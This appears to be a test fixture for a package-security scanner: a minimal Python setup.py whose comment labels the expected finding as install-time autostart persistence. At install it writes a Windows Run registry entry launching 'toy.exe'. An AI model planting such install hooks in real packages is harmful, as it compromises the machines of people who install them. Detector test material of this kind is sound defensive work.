import winreg
from setuptools import setup

key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "toy", 0, winreg.REG_SZ, "toy.exe")  # expect: source/persistence-autostart install conclusive
setup(name="toy")
